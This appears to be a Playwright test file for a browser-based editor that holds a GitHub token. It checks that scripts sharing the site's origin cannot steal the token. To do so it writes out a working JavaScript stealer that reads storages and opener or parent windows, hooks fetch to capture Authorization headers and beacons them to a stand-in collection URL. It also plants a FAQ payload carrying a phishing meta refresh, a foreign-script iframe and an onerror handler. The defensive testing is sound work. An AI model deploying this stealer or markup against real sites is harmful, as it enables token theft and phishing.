"""The carnet is a vault (issue 32, defects 1 and 4), in Chromium, written as the attacks.

The carnet is published with the site, on the site's origin (on GitHub Pages,
``owner.github.io``, with every repository of the owner). The providers' scripts run there:
MailerLite's on ``/ressource`` (here a hostile stand-in in its place, at its address, which
the page's policy allows), and any page of another repository (``/autre-depot/``, served here
by routing). None of them may read the coach's token, the carnet's page or its work; markup
from the repository never reaches the carnet's DOM but through the build's allow-list.

The site is the one of ``test_editor_github.py`` (built for ``renouer/site`` and the fake
GitHub API); GitHub is replaced at the network boundary only."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page, Route, expect

from .editor_github import TOKEN, Network, editor, open_file, sign_in
from .fake_github.fixture import fake_github
from .fake_github.server import FakeGitHub
from .pages_server import PagesServer
from .test_editor import cell, field_label

__all__ = ["editor", "fake_github"]

MAILERLITE_UNIVERSAL = "https://assets.mailerlite.com/js/universal.js"
#: Where the stand-in sends what it found: a host the /ressource page's policy allows.
LOOT = "https://assets.mailerlite.com/collect"
OTHER_REPOSITORY = "autre-depot/"
PHISHING = "https://phishing.test/"

#: What a provider's (or another repository's) script can try from a page of the origin:
#: the storages, IndexedDB, the window that framed it or opened it (the carnet), and a
#: patched fetch in that window to catch the Authorization header of its next API call.
THIEF = r"""
(async function () {
  var loot = { where: location.href, found: [] };
  function grab(name, read) {
    try {
      var value = read();
      if (value) loot.found.push(name + ': ' + String(value).slice(0, 2000));
    }
    catch (error) { loot.found.push(name + ' refused: ' + error.name); }
  }
  grab('sessionStorage', function () { return JSON.stringify(sessionStorage); });
  grab('localStorage', function () { return JSON.stringify(localStorage); });
  var others = [['parent', window.parent], ['top', window.top], ['opener', window.opener]];
  others.forEach(function (pair) {
    var other = pair[1];
    if (!other || other === window) return;
    grab(pair[0] + '.document', function () { return other.document.body.innerHTML; });
    grab(pair[0] + '.sessionStorage', function () { return JSON.stringify(other.sessionStorage); });
    grab(pair[0] + '.fetch', function () {
      var original = other.fetch;
      other.fetch = function (url, init) {
        var headers = new Headers((init && init.headers) || {});
        navigator.sendBeacon('__LOOT__', 'fetch ' + headers.get('authorization'));
        return original.apply(this, arguments);
      };
      return 'patched';
    });
  });
  navigator.sendBeacon('__LOOT__', JSON.stringify(loot));
  try {
    var databases = await indexedDB.databases();
    navigator.sendBeacon('__LOOT__', 'indexedDB: ' + JSON.stringify(databases));
  } catch (error) { navigator.sendBeacon('__LOOT__', 'indexedDB refused: ' + error.name); }
})();
""".replace("__LOOT__", LOOT)


@dataclass
class Thief:
    """The stand-in's reports (every request to LOOT), and every address it was served at."""

    reports: list[str] = field(default_factory=list)

    def route(self, page: Page) -> None:
        page.route(MAILERLITE_UNIVERSAL, self._script)
        page.route(f"{LOOT}**", self._collect)

    def _script(self, route: Route) -> None:
        route.fulfill(status=200, content_type="text/javascript", body=THIEF)

    def _collect(self, route: Route) -> None:
        self.reports.append(route.request.post_data or "")
        route.fulfill(status=204, body="")

    def stolen(self) -> list[str]:
        return [r for r in self.reports if TOKEN in r or "carnet-main" in r or "Bearer" in r]


@pytest.fixture
def thief(editor: tuple[Page, Network]) -> Thief:
    found = Thief()
    found.route(editor[0])
    return found


def other_repository(page: Page, site: PagesServer, script: str) -> str:
    """A page and a script of another repository of the owner, on the same origin."""
    root = site.origin + "/" + OTHER_REPOSITORY
    page.route(
        f"{root}**",
        lambda route: route.fulfill(
            status=200,
            content_type="text/html" if route.request.url == root else "text/javascript",
            body=f'<!doctype html><title>autre</title><script src="{root}x.js"></script>'
            if route.request.url == root
            else script,
        ),
    )
    return root


# --------------------------------------------------------------------------- defect 1


def test_the_site_pages_scripts_never_read_the_token_after_sign_in(
    editor: tuple[Page, Network], editor_site: PagesServer, thief: Thief
) -> None:
    """Sign in, then /ressource (MailerLite's script) and a page of another repository of
    the owner in the same tab: neither finds the token anywhere."""
    page, _ = editor
    sign_in(page)
    expect(page.get_by_role("button", name="Se déconnecter")).to_be_visible()
    other = other_repository(page, editor_site, THIEF)
    for address in (editor_site.url_for("/ressource"), other):
        with page.expect_response(lambda response: response.url.startswith(LOOT)):
            page.goto(address)
    assert len(thief.reports) >= 2 and thief.stolen() == [], thief.reports
    # Back in the carnet, the coach signs in again: the token was kept nowhere. On the
    # site's shared origin « Se souvenir » is not offered, and the page says why, once.
    page.goto(editor_site.url_for("/editeur/"))
    expect(page.get_by_role("button", name="Se connecter à GitHub")).to_be_visible()
    expect(page.get_by_label("Se souvenir sur cet appareil")).to_have_count(0)
    exposure = re.compile("^Le carnet partage l’adresse des pages du site")
    expect(page.get_by_text(exposure)).to_be_visible()


def test_the_page_preview_runs_nothing_that_reaches_the_carnet(
    editor: tuple[Page, Network], editor_site: PagesServer, thief: Thief
) -> None:
    """« Aperçu de la page » of pages/ressource.md frames /ressource: its provider's script
    must not read the token, the carnet's page, or patch the carnet's fetch."""
    page, network = editor
    sign_in(page)
    open_file(page, editor_site, "pages/ressource.md")
    page.get_by_role("button", name="Aperçu de la page").click()
    frames = page.get_by_role("region", name="Aperçu de la page").locator("iframe")
    expect(frames).to_have_count(2)
    for i in range(2):
        # The page is drawn as it was prerendered.
        expect(frames.nth(i).content_frame.get_by_role("heading", level=1)).to_be_visible()
    # Whatever the frames run has had its turn once their network is quiet.
    for frame in page.main_frame.child_frames:
        frame.wait_for_load_state("networkidle")
    assert thief.stolen() == [], thief.stolen()
    assert all(TOKEN not in (r.post_data or "") for r in network.seen)
    for i in range(2):
        sandbox = frames.nth(i).get_attribute("sandbox")
        # No script runs in the frame: a sandbox without « allow-scripts » (the carnet's own
        # drawing of the draft, same-origin for its styles), or without the carnet's origin.
        assert sandbox is not None, sandbox
        assert "allow-scripts" not in sandbox or "allow-same-origin" not in sandbox, sandbox


def test_another_repositorys_script_cannot_run_in_the_carnet(
    editor: tuple[Page, Network], editor_site: PagesServer
) -> None:
    """The carnet's policy names its own scripts: a <script> of another repository of the
    same origin (say, through injected markup) is refused."""
    page, _ = editor
    other = other_repository(page, editor_site, "window.__otherRepository = true;")
    page.evaluate(
        """(src) => new Promise((done) => {
            const script = document.createElement('script');
            script.src = src;
            script.onload = script.onerror = done;
            document.head.append(script);
        })""",
        other + "x.js",
    )
    assert page.evaluate("() => window.__otherRepository === true") is False


# --------------------------------------------------------------------------- defect 4

HOSTILE_FAQ = """```{faq}
title: Questions fréquentes
entries:
  - question: Une question piégée
    order: 1
    id: piege
    answer: >-
      <meta http-equiv="refresh" content="0;url=__PHISHING__">
      <iframe srcdoc="<script src='__OTHER__x.js'></script>"></iframe>
      <img src="x" onerror="window.__markup = true">
      <p>Réponse piégée</p>
```"""


def test_a_planted_faq_cell_draws_only_the_schemas_keys_sanitised(
    editor: tuple[Page, Network], editor_site: PagesServer, fake_github: FakeGitHub
) -> None:
    """A `{faq}` cell with an `entries` key on main (refused by `contenu check`, merged red):
    once the coach edits that cell, its preview takes the title from the file and the
    answers from the build, and no markup of the file reaches the carnet's page."""
    page, network = editor
    path = "content/pages/contact.md"
    text = fake_github.repo.files(fake_github.repo.branch_head("main") or "")[path].decode()
    planted = HOSTILE_FAQ.replace("__PHISHING__", PHISHING).replace(
        "__OTHER__", editor_site.origin + "/" + OTHER_REPOSITORY
    )
    text = re.sub(r"```\{faq\}\n.*?```", lambda _: planted, text, count=1, flags=re.DOTALL)
    fake_github.push("main", {path: text.encode()}, "Une FAQ piégée")
    scripts: list[str] = []
    other_repository(page, editor_site, "window.top.__otherRepository = true;")
    page.on("request", lambda r: scripts.append(r.url))
    sign_in(page)
    open_file(page, editor_site, "pages/contact.md")
    faq = cell(page, "faq")
    faq.get_by_label(field_label("title"), exact=True).fill("Vos questions")
    preview = faq.get_by_role("region", name="Aperçu")
    expect(preview).to_contain_text("Vos questions")
    expect(preview).not_to_contain_text("Une question piégée")
    assert preview.locator("iframe, meta, img[onerror]").count() == 0
    assert page.evaluate("() => [window.__markup, window.__otherRepository]") == [None, None]
    assert page.url.startswith(editor_site.url_for("/editeur/"))
    assert not [u for u in scripts if u.startswith(PHISHING) or OTHER_REPOSITORY in u]
    assert network.elsewhere == []
